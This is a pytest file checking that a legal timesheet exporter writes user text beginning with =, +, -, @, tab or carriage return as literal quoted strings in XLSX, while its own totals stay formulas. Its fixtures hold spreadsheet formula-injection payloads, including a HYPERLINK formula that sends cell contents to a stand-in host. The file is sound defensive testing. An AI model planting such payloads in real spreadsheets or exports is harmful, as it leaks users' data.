"""Text from users never becomes a spreadsheet formula: a narrative, client, matter or name that begins with =, +,
-, @, a tab or a carriage return is written as a string cell marked "quoted" (quotePrefix), exactly as typed,
while the workbook's own totals stay formulas."""

import csv
import os
import shutil
import subprocess
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook
from openpyxl.utils.escape import unescape
from python_calamine import CalamineWorkbook

from legalsec_desktop.formats.timesheet_xlsx import SheetRow, SheetTitle, write_timesheet

LEADS = {
    "=": '=HYPERLINK("http://x.example/?"&A1,"click")',
    "+": "+1+2 drafted",
    "-": "-- called client",
    "@": "@SUM(1,2)",
    "\t": "\t=1+1 tabbed",
    "\r": "\r=1+1 returned",
}
FIRM = "=1+1 Law"


def dangerous_rows() -> list[SheetRow]:
    rows = []
    for n, (lead, text) in enumerate(LEADS.items(), 1):
        rows.append(SheetRow(date(2026, 11, n), f"{lead}K{n}", f"{text} keeper", f"{text} client",
                             f"{lead}2026-{n:04d}",
                             f"{text} matter", 60, 10000, 10000, "Billable", "Open", "", "", text))
    return rows


@pytest.fixture
def book(tmp_path: Path) -> Path:
    path = tmp_path / "sheet.xlsx"
    write_timesheet(dangerous_rows(), SheetTitle(FIRM, date(2026, 11, 1), date(2026, 11, 30)), path)
    return path


def test_user_text_is_a_literal_string_exactly_as_typed(book):
    workbook = load_workbook(book)
    detail, summary = workbook["Detail"], workbook["Summary"]
    for index, row in enumerate(dangerous_rows(), 2):
        for column, expected in (("B", row.timekeeper), ("C", row.client), ("D", row.matter), ("L", row.narrative)):
            cell = detail[f"{column}{index}"]
            # Excel writes a carriage return in text as _x000D_; openpyxl leaves that escape as it is
            assert (unescape(cell.value), cell.data_type, cell.quotePrefix) == (expected, "s", True), f"{column}{index}"
    user_text = {FIRM} | {text for row in dangerous_rows() for text in
                          (row.timekeeper, row.timekeeper_name, row.client, row.matter, row.matter_title)}
    shown = {}
    for cell in (c for line in summary.iter_rows() for c in line if isinstance(c.value, str)):
        text = unescape(cell.value.split(" — ")[0] if cell.row == 1 else cell.value)
        if text in user_text:
            assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
            shown[text] = cell.coordinate
    assert set(shown) == user_text  # every name, client, matter and title is on the Summary, as typed


def test_a_reader_that_does_not_recalculate_sees_the_text_exactly_as_typed(book):
    detail = CalamineWorkbook.from_path(str(book)).get_sheet_by_name("Detail").to_python()
    for line, row in zip(detail[1:], dangerous_rows()):
        assert [line[1], line[2], line[3], line[11]] == [row.timekeeper, row.client, row.matter, row.narrative]


def test_the_workbooks_own_totals_stay_formulas(book):
    workbook = load_workbook(book)
    detail, summary = workbook["Detail"], workbook["Summary"]
    last = len(LEADS) + 1
    assert detail[f"E{last + 2}"].value == f"=SUBTOTAL(9,E2:E{last})" and detail[f"E{last + 2}"].data_type == "f"
    formulas = [c.value for line in summary.iter_rows() for c in line if c.data_type == "f"]
    assert len([f for f in formulas if f.startswith(("=SUMPRODUCT(", "=SUMIFS("))]) == 2 * 3 * len(LEADS)
    assert len([f for f in formulas if f.startswith("=SUBTOTAL(")]) == 2 * 3
    assert all(not c.quotePrefix for line in summary.iter_rows() for c in line if c.data_type == "f")


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed here")
def test_libreoffice_shows_the_text_literally_and_the_totals_right(book, tmp_path):
    # 44,34,76,1,,0,false,true,true,false,false,-1: comma, quote, UTF-8, values as shown, every sheet to a file
    options = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,true,false,false,-1"
    subprocess.run(["soffice", "--headless", "--convert-to", options, "--outdir", str(tmp_path), str(book)],
                   check=True, capture_output=True, timeout=180, env={**os.environ, "HOME": str(tmp_path)})

    def sheet(name: str) -> list[list[str]]:
        with open(tmp_path / f"sheet-{name}.csv", encoding="utf-8", newline="") as text:
            return list(csv.reader(text))

    detail = sheet("Detail")
    for line, row in zip(detail[1:], dangerous_rows()):
        assert [line[1], line[2], line[3], line[11]] == [row.timekeeper, row.client, row.matter, row.narrative]
    hours = len(LEADS)
    totals = [(line[3], line[4]) for line in sheet("Summary") if line and line[0] == "Total"]
    assert totals == [(f"{hours:.1f}", f"${hours * 100:,}.00")] * 3
    assert [line[4] for line in detail if line and line[0] == "Total (rows shown)"] == [f"{hours:.1f}"]
